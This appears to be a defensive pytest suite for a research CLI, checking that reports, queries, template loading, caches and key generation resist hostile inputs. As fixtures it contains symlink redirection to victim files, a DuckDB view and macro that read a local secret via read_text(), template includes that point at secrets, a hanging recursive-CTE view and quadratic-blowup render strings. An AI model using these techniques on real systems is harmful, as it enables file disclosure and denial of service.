    assert run("play", "--tree", "synthetic-diamond-4", "--agent", "oracle", "--record", "--db", db).exit_code == 0
    wh = str(tmp_path / "w.duckdb")
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    out = tmp_path / "report"
    out.mkdir()
    (out / "index.html").symlink_to(victim)
    made = run("report", "--out", str(out), "--db", db, "--warehouse", wh)
    assert made.exit_code == 0, made.output
    assert victim.read_text() == "precious" and not (out / "index.html").is_symlink()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    second = tmp_path / "second"
    second.mkdir()
    (second / "episodes").symlink_to(elsewhere)
    refused = run("report", "--out", str(second), "--db", db, "--warehouse", wh)
    assert refused.exit_code != 0 and "symbolic link" in refused.output and not list(elsewhere.iterdir())
    linked = tmp_path / "linked"
    linked.symlink_to(elsewhere)
    refused = run("report", "--out", str(linked), "--db", db, "--warehouse", wh)
    assert refused.exit_code != 0 and "symbolic link" in refused.output and not list(elsewhere.iterdir())
    csv_link = tmp_path / "table.csv"
    csv_link.symlink_to(victim)
    query = run("query", "table2_leaderboard", "--warehouse", wh, "--format", "csv", "--out", str(csv_link))
    assert query.exit_code == 0, query.output
    assert victim.read_text() == "precious" and not csv_link.is_symlink() and "agent" in csv_link.read_text()


def test_a_warehouse_file_from_someone_else_runs_none_of_its_own_sql(tmp_path):
    """A warehouse that carries this version's stamp kept its views, and a writer had file access: a
    view reading read_text() put a local file into every page of `report --out`. Writers now drop
    every view and macro of the file and recreate this code's, with file access off; readers read
    through this code's views."""
    import duckdb

    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-7731")
    db = f"sqlite:///{tmp_path / 'e.sqlite'}"
    assert run("play", "--tree", "synthetic-diamond-4", "--agent", "oracle", "--record", "--db", db).exit_code == 0
    wh = str(tmp_path / "w.duckdb")
    assert run("warehouse", "sync", "--db", db, "--warehouse", wh).exit_code == 0
    con = duckdb.connect(wh)  # the other party edits the file, keeping the stamp
    con.execute("ALTER VIEW episodes RENAME TO episodes_kept")
    con.execute(
        "CREATE VIEW episodes AS SELECT * REPLACE "
        f"((SELECT content FROM read_text('{secret}')) AS agent) FROM episodes_kept"
    )
    con.execute(f"CREATE MACRO leak() AS (SELECT content FROM read_text('{secret}'))")
    con.close()
    for args in (
        ["query", "table2_leaderboard", "--warehouse", wh, "--format", "csv"],
        ["sql", "SELECT agent FROM episodes", "--warehouse", wh, "--format", "csv"],
        ["report", "--out", str(tmp_path / "report"), "--db", db, "--warehouse", wh],
        ["sql", "SELECT leak()", "--warehouse", wh, "--format", "csv"],
    ):
        out = run(*args)
        assert "TOP-SECRET" not in out.output, (args, out.output)
    pages = "".join(p.read_text() for p in (tmp_path / "report").rglob("*.html"))
    assert "TOP-SECRET" not in pages and "oracle" in pages
    con = duckdb.connect(wh, read_only=True)
    names = {r[0] for r in con.execute("SELECT view_name FROM duckdb_views() WHERE NOT internal").fetchall()}
    macros = con.execute("SELECT count(*) FROM duckdb_functions() WHERE function_name = 'leak'").fetchall()[0][0]
    con.close()
    assert "episodes_kept" not in names and macros == 0  # the writer replaced the file's catalogue


@pytest.mark.parametrize("how", ["system_link", "include_link", "folder_link"])
def test_links_inside_a_suites_template_folder_read_nothing_outside_it(how, tmp_path, monkeypatch):
    """The trust check resolved the folder named by `templates`, but the loader followed links inside
    it: tpl/system.txt -> ~/secret put the secret into prompts, the store and exports."""
    import shutil

    from inquitree.core.game.prompts import TEMPLATES_DIR

    secret = tmp_path / "home" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("TOP-SECRET-4471")
    lab = tmp_path / "lab"
    shutil.copytree(TEMPLATES_DIR / "inquitree", lab / "tpl")
    if how == "system_link":
        (lab / "tpl" / "system.txt").unlink()
        (lab / "tpl" / "system.txt").symlink_to(secret)
    elif how == "include_link":
        (lab / "tpl" / "leak.txt").symlink_to(secret)
        c11 = lab / "tpl" / "C.1.1.j2"
        c11.write_text('{% include "leak.txt" %}\n' + c11.read_text())
    else:
        (lab / "tpl" / "system.txt").unlink()
        (lab / "tpl" / "system.txt").symlink_to(lab / "tpl" / "C.5.j2")  # a link inside the folder is fine...
        (lab / "inner").symlink_to(secret.parent)  # ...one that leaves it is not
        shutil.copy(TEMPLATES_DIR / "inquitree" / "C.6.j2", secret.parent / "C.6.j2")
        (lab / "tpl" / "C.6.j2").unlink()
        (lab / "tpl" / "C.6.j2").symlink_to(lab / "inner" / "C.6.j2")
    suite = _suite(lab, 'templates = "tpl"', '["oracle"]')
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)  # a relative `templates` is the suite's folder's, not the current directory's
    db = tmp_path / "e.sqlite"
    out = run("suite", "run", str(suite), "--db", f"sqlite:///{db}")
    assert out.exit_code != 0 and "leads outside the set's folder" in out.output, out.output
    assert "TOP-SECRET" not in out.output
    assert not db.exists() or b"TOP-SECRET" not in db.read_bytes()


def test_a_suites_relative_template_folder_is_its_own(tmp_path, monkeypatch):
    import shutil

    from inquitree.core.game.prompts import TEMPLATES_DIR

    lab = tmp_path / "lab"
    shutil.copytree(TEMPLATES_DIR / "inquitree", lab / "tpl")
    (lab / "tpl" / "system.txt").write_text("You are a careful scientist of this lab.")
    suite = _suite(lab, 'templates = "tpl"', '["oracle"]')
    monkeypatch.chdir(tmp_path)  # not the suite's folder
    db = tmp_path / "e.sqlite"
    out = run("suite", "run", str(suite), "--db", f"sqlite:///{db}")
    assert out.exit_code == 0, out.output
    with EventStore(f"sqlite:///{db}") as store:
        started = next(r.event for s in store.streams("episode/") for r in store.read_stream(s.stream_id)[:1])
    assert started.params["template_set"] == str((lab / "tpl").resolve())


@pytest.mark.parametrize("value", ["nan", "inf", "-inf"])
@pytest.mark.parametrize(
    "args",
    [
        ["power", "--difference", "{v}", "--sd-between", "0.1", "--sd-within", "0.05"],
        ["power", "--difference", "0.1", "--sd-between", "0.1", "--sd-within", "0.05", "--missing", "{v}"],
        ["power", "--difference", "0.1", "--sd-between", "{v}", "--sd-within", "0.05"],
        ["play", "--agent", "oracle", "--tree", "synthetic-diamond-4", "--tau", "{v}"],
        ["play", "--agent", "oracle", "--tree", "synthetic-diamond-4", "--max-episode-seconds", "{v}"],
        ["trees", "match", "synthetic-diamond-4", "x", "--tau-study", "{v}"],
        ["view", "--stale-after", "{v}"],
    ],
)
def test_number_options_refuse_nan_and_infinities(args, value):
    """NaN passes every range check (nan < 0 and nan > 1 are both false): `power --missing nan`
    ended in a traceback and `power --difference inf` planned 6 papers. Every number option of the
    command line refuses non-finite values before anything runs."""
    out = CliRunner().invoke(main, [a.replace("{v}", value) for a in args])
    assert out.exit_code == 2 and "Invalid value for" in out.output, out.output
    assert value != "nan" or "is not a finite number" in out.output  # an infinity may be out of range first


# Texts whose shape the other side chooses, each of which made a renderer do more than linear work
# (unclosed bold openers took 46 s for one episode's replies and 211 s for a 200 KB reasoning).
RENDER_SHAPES = ["**a ", "__a ", "*a ", "`a ", "**a\n", "_a_ ", "# **x", "- __y ", "\x1b[2J**", "*" * 7 + " "]


def _seconds(render, text: str) -> float:
    best = float("inf")
    for _ in range(3):  # the least of three: the machine is shared
        t0 = time.perf_counter()
        render(text)
        best = min(best, time.perf_counter() - t0)
    return best


@pytest.mark.parametrize("shape", RENDER_SHAPES)
def test_every_text_renderer_is_linear_in_its_input(shape):
    """Eight times the text takes at most about eight times as long (a quadratic renderer takes 64
    times): the report's and the viewer's Markdown, the terminal's escaping and search snippets."""
    from inquitree.viewer.search import _snippet, _words_pattern
    from inquitree.warehouse.report import markdown_html

    pattern = _words_pattern(["a", "zebra"])
    for render in (markdown_html, printable, lambda t: _snippet(t, pattern)):
        small, large = shape * 2_500, shape * 20_000
        ratio = _seconds(render, large) / max(_seconds(render, small), 1e-4)
        assert ratio < 24, f"{render}: {ratio:.1f} times as long for 8 times the text {shape!r}"
        assert _seconds(render, shape * 50_000) < 5.0  # 200 KB and more, in seconds at most


def test_keygen_writes_through_no_link(tmp_path):
    """`db keygen PREFIX` wrote PREFIX.pub through a dangling link placed there (the existence check
    followed the link and found nothing): a link at either name, dangling or not, is refused."""
    victim = tmp_path / "victim.pub"
    (tmp_path / "lab.pub").symlink_to(victim)  # dangling: victim does not exist yet
    refused = run("db", "keygen", str(tmp_path / "lab"))
    assert refused.exit_code != 0 and "exists: a key is never overwritten" in refused.output
    assert not victim.exists() and not (tmp_path / "lab.key").exists()


def test_an_out_file_that_is_a_device_or_a_fifo_is_written_into_never_replaced(tmp_path):
    """`query ... --out /dev/null`, run as root, replaced the machine's /dev/null with a regular file:
    the safe writer renamed a new file over whatever the path was. A device or a FIFO is written into;
    a FIFO no one reads, or a socket, is refused in one line."""
    import socket
    import stat

    db = f"sqlite:///{tmp_path / 'e.sqlite'}"
    assert run("play", "--tree", "synthetic-diamond-4", "--agent", "oracle", "--record", "--db", db).exit_code == 0
    wh = str(tmp_path / "w.duckdb")
    assert run("warehouse", "sync", "--db", db, "--warehouse", wh).exit_code == 0
    query = ("query", "table2_leaderboard", "--warehouse", wh, "--format", "csv", "--out")
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    refused = run(*query, str(fifo))
    assert refused.exit_code != 0 and "a FIFO that no one reads" in refused.output
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # someone reads it (the table fits its buffer)
    try:
        written = run(*query, str(fifo))
        got = [os.read(reader, 1 << 16)]
    finally:
        os.close(reader)
    assert written.exit_code == 0, written.output
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode) and b"agent" in b"".join(got)
    sock_path = tmp_path / "s.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(sock_path))
    try:
        refused = run(*query, str(sock_path))
    finally:
        server.close()
    assert refused.exit_code != 0 and "a socket; name a file" in refused.output
    # last, so that code which would replace it fails on the FIFO first and never reaches the machine's
    done = run(*query, os.devnull)
    assert done.exit_code == 0, done.output
    assert stat.S_ISCHR(os.stat(os.devnull).st_mode)


def test_the_instrument_record_and_a_price_table_are_read_as_foreign_files(tmp_path, monkeypatch):
    """The record ($INQUITREE_INSTRUMENT) was read with read_text: a pipe hung every table and
    /dev/zero read 1.5 GB; a 400-digit integer in it or in a price table ended in a traceback. Both
    are read with the bounded reader, and an integer beyond float's range names the file."""
    import json

    from inquitree.core.instrument import measured
    from inquitree.core.run.limits import LimitError, PriceTable

    monkeypatch.setenv(measured.RECORD_ENV, "/dev/zero")
    with pytest.raises(ValueError, match="a device or a socket, not a regular file"):
        measured.records()
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    t0 = time.monotonic()
    with pytest.raises(ValueError, match="a pipe, not a regular file"):
        measured._read(pipe)
    assert time.monotonic() - t0 < 5
    huge = "9" * 400
    record = tmp_path / "instrument.json"
    record.write_text('{"matchers": [{"tau": ' + huge + '}], "judges": []}')
    with pytest.raises(ValueError, match=r"instrument\.json: not a record of measurements \(an integer of 400 digits"):
        measured._read(record)
    prices = tmp_path / "prices.json"
    prices.write_text(
        json.dumps({"prices": []})[:-2] + '{"model": "m", "input_per_mtok": ' + huge + ', "output_per_mtok": 1}]}'
    )
    with pytest.raises(LimitError, match=r"prices\.json: not a price table \(an integer of 400 digits"):
        PriceTable(prices)


def test_the_resume_hint_shows_every_secret_the_command_carried_as_stars(monkeypatch):
    """The command printed after a failed or interrupted episode is the command as typed: a key in
    the base URL's path and a credential header given as an option were printed in clear."""
    from inquitree.cli.play import resume_command, resume_hint

    monkeypatch.setattr(
        sys,
        "argv",
        [
            "inquitree",
            "play",
            "--agent",
            "openai:m",
            "--base-url",
            "https://gw.example/v1/sk-pathkey0123456789abcdef/chat",
            "--agent-option",
            'extra_headers={"Authorization": "Bearer hdr-secret-987654"}',
            "--judge-option=api_key=judge-secret-24680",
            "--db",
            "postgresql://u:dbpass99@h/db",
        ],
    )
    command = resume_command("ep-1")
    for secret in ("sk-pathkey0123456789abcdef", "hdr-secret-987654", "judge-secret-24680", "dbpass99"):
        assert secret not in command, command
    assert "***" in command and command.endswith("--episode-id ep-1 --resume") and "openai:m" in command
    assert resume_hint("ep-1").startswith("this continues it, once the secrets shown as *** are given again: ")


def test_a_call_cache_someone_else_wrote_is_read_as_foreign(tmp_path):
    """A cache handed over by another lab (a suite's call_cache, --call-cache): a cached answer passes
    the checks a fresh one does (its reply cut to max_reply_chars, its reasoning to the kept size,
    its usage read as reported counts, its fields of the right type); a cache whose calls is a view
    (a view over an endless CTE hung play) is refused; its SQL runs no code (trusted_schema off)."""
    import sqlite3

    from inquitree.core.calls import CallSettings, ChatModel
    from inquitree.core.calls.cache import CallCache, CallCacheError
    from inquitree.core.calls.models import MAX_REASONING_CHARS

    path = tmp_path / "foreign.sqlite"
    cache = CallCache(path)
    settings = CallSettings(max_reply_chars=100)
    model = ChatModel("m", base_url="http://127.0.0.1:9/v1", api_key="k", settings=settings, cache=cache)
    messages = [{"role": "user", "content": "hi"}]
    req = model._request(messages, None)
    answer = {
        "text": "x" * 5000,
        "model": "m",
        "usage": {"input": -(10**9), "output": "7", "cached_input": 3},
        "reasoning": "r" * (MAX_REASONING_CHARS * 3),
        "finish_reason": "stop",
    }
    cache.put(CallCache.key("m", model.endpoint, req), "m", model.endpoint, answer)
    got = model.chat(messages)
    assert got.cache_hit and len(got.text) == 100 and got.truncated_from == 5000
    assert len(got.reasoning) < MAX_REASONING_CHARS + 200 and "reasoning cut here" in got.reasoning
    assert got.usage["input"] is None and got.usage["output"] is None and got.usage["cached_input"] == 3
    cache.close()
    view = tmp_path / "view.sqlite"
    with sqlite3.connect(view) as con:
        con.execute("CREATE TABLE kept (key TEXT, model TEXT, endpoint TEXT, created_at TEXT, answer TEXT)")
        con.execute(
            "CREATE VIEW calls AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) "
            "SELECT k.* FROM kept k, n"
        )
    with pytest.raises(CallCacheError, match="its calls is a view, not the table InquiTree makes"):
        CallCache(view)


def test_writes_into_a_folder_opened_once_never_follow_a_link_put_in_its_place(tmp_path, monkeypatch):
    """The report's episodes/ folder was checked once and then written by name: a link put in its
    place during the run was followed out of --out (200 pages). Pages now go to the folder as it
    was opened; and extract's call log, opened by name at every line, is opened once, refusing a
    link."""
    from inquitree.boundary.files import OpenFolder, OutputRefused, append_opened

    outside = tmp_path / "outside"
    outside.mkdir()
    folder = tmp_path / "out" / "episodes"
    folder.mkdir(parents=True)
    with OpenFolder(folder) as pages:
        pages.write("a.html", "first")
        folder.rename(tmp_path / "out" / "moved")  # the folder swapped for a link mid-run
        folder.symlink_to(outside, target_is_directory=True)
        pages.write("b.html", "second")
    assert not list(outside.iterdir())
    assert (tmp_path / "out" / "moved" / "b.html").read_text() == "second"
    # the call log: a link at its name is refused; once open, what is put in its place is not written
    log = tmp_path / "calls.jsonl"
    log.symlink_to(outside / "stolen.jsonl")
    with pytest.raises(OutputRefused, match="symbolic link"):
        append_opened(log)
    log.unlink()
    with append_opened(log) as f:
        f.write("one\n")
        log.rename(tmp_path / "kept.jsonl")
        log.symlink_to(outside / "stolen.jsonl")
        f.write("two\n")
    assert not (outside / "stolen.jsonl").exists() and (tmp_path / "kept.jsonl").read_text() == "one\ntwo\n"


def test_the_report_writes_its_pages_into_the_folder_it_opened(tmp_path, monkeypatch, sqlite_url):
    """The report itself: episodes/ replaced by a link after the first page is drawn; every page
    still lands in the folder the report opened."""
    from inquitree.core.game.tree import resolve_tree
    from inquitree.events.store import EventStore
    from inquitree.warehouse import report
    from inquitree.warehouse.warehouse import Warehouse

    from enginekit import RandomAgent, play

    tree = resolve_tree("synthetic-chain-7")
    with EventStore(sqlite_url) as s:
        for seed in range(3):
            play(tree, RandomAgent(tree, seed), store=s, seed=seed)
    outside, out = tmp_path / "outside", tmp_path / "rep"
    outside.mkdir()
    drawn = report.episode_items
    swapped = []

    def swap_after_first(wh, episode_id):
        if not swapped:
            (out / "episodes").rename(out / "moved")
            (out / "episodes").symlink_to(outside, target_is_directory=True)
            swapped.append(episode_id)
        return drawn(wh, episode_id)

    monkeypatch.setattr(report, "episode_items", swap_after_first)
    with Warehouse(str(tmp_path / "w.duckdb")) as wh:
        wh.sync(sqlite_url)
        wh.scope(one_off=True)
        report.write_report(wh, out)
    assert swapped and not list(outside.iterdir())
    assert len(list((out / "moved").glob("*.html"))) == 3
